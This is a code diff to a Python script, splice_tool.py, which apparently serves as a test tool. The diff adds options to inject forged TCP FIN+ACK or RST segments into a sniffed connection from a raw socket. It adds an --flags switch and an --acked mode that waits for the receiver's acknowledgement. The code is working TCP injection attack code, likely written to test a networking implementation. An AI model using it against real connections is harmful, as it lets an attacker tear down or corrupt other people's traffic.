@@ -59,13 +59,16 @@
       Blind injection (raw socket, root): for each flag letter (R RST,
       S SYN, F FIN+ACK), N segments with that 4-tuple and sequence numbers
       spread over the whole 32-bit space.
-  splice_tool.py inject-inside --src IP:PORT --dst IP:PORT --dev DEV --count N [--timeout S] [--ahead FILE]
+  splice_tool.py inject-inside --src IP:PORT --dst IP:PORT --dev DEV --count N [--timeout S]
+                              [--ahead FILE] [--flags F|R] [--acked]
       An attacker who sees the sender's segments (packet socket on DEV,
-      root): waits up to S seconds (default 30) for a data segment from
-      src to dst, then sends N FIN+ACKs with its ACK and sequence numbers
-      just past its first byte, inside data already sent. With --ahead FILE
-      it prints "ready" once watching, watches until FILE exists and one
-      second more, and aims one byte past the end of the data sent so far.
+      root): prints "ready" once watching, waits up to S seconds (default
+      30) for a data segment from src to dst, then sends N FIN+ACKs with its
+      ACK (or, with --flags R, bare RSTs) and sequence numbers just past its
+      first byte, inside data already sent. With --acked it first waits for
+      dst to acknowledge that segment. With --ahead FILE it watches until
+      FILE exists and one second more, and aims one byte past the end of
+      the data sent so far.
 """
 import argparse
 import errno
@@ -470,8 +473,7 @@ def inject_inside(args):
     sniff.settimeout(0.2)
     deadline = time.monotonic() + args.timeout
     first, top, go = None, 0, None
-    if args.ahead:
-        print("ready", flush=True)
+    print("ready", flush=True)
     while time.monotonic() < deadline:
         if args.ahead and first is not None and os.path.exists(args.ahead):
             go = go or time.monotonic() + 1
@@ -500,13 +502,38 @@ def inject_inside(args):
         print("inject-inside: no data segment %s -> %s seen on %s" % (args.src, args.dst, args.dev),
               file=sys.stderr)
         return 1
+    if args.acked and not wait_acked(sniff, want, (first + top) & 0xffffffff, deadline):
+        print("inject-inside: the data %s -> %s was not acknowledged" % (args.src, args.dst),
+              file=sys.stderr)
+        return 1
     aim = (first + top + 1) if args.ahead else (first + 1)
+    flags, name = (0x04, "RSTs") if args.flags == "R" else (0x11, "FINs")
     raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
     for i in range(args.count):
-        raw.sendto(segment(src, dst, sport, dport, (aim + i) & 0xffffffff, ack, 0x11), (dst, 0))
-    print("inject-inside: data seen from seq %u to %u, sent %d FINs from seq %u" %
-          (first, (first + top) & 0xffffffff, args.count, aim & 0xffffffff))
+        raw.sendto(segment(src, dst, sport, dport, (aim + i) & 0xffffffff,
+                           ack if flags & 0x10 else 0, flags), (dst, 0))
+    print("inject-inside: data seen from seq %u to %u, sent %d %s from seq %u" %
+          (first, (first + top) & 0xffffffff, args.count, name, aim & 0xffffffff))
     return 0
+
+
+def wait_acked(sniff, want, end, deadline):
+    """Sniff until the receiver of the flow @want acknowledges @end."""
+    back = (want[1], want[0], want[3], want[2])
+    while time.monotonic() < deadline:
+        try:
+            ip, addr = sniff.recvfrom(65535)
+        except socket.timeout:
+            continue
+        ihl = (ip[0] & 15) * 4
+        if addr[1] != 0x0800 or len(ip) < ihl + 20 or ip[9] != socket.IPPROTO_TCP:
+            continue
+        tcp = ip[ihl:]
+        sp, dp, _, ack = struct.unpack("!HHII", tcp[:12])
+        if (ip[12:16], ip[16:20], sp, dp) == back and tcp[13] & 0x10 and \
+                (ack - end) & 0xffffffff < 1 << 31:
+            return True
+    return False
 
 
 def main():
@@ -553,6 +580,8 @@ def main():
     k.add_argument("--count", type=int, default=8)
     k.add_argument("--timeout", type=float, default=30)
     k.add_argument("--ahead")
+    k.add_argument("--flags", choices=["F", "R"], default="F")
+    k.add_argument("--acked", action="store_true")
     e = sub.add_parser("peer")
     e.add_argument("--connect")
     e.add_argument("--listen", type=int)
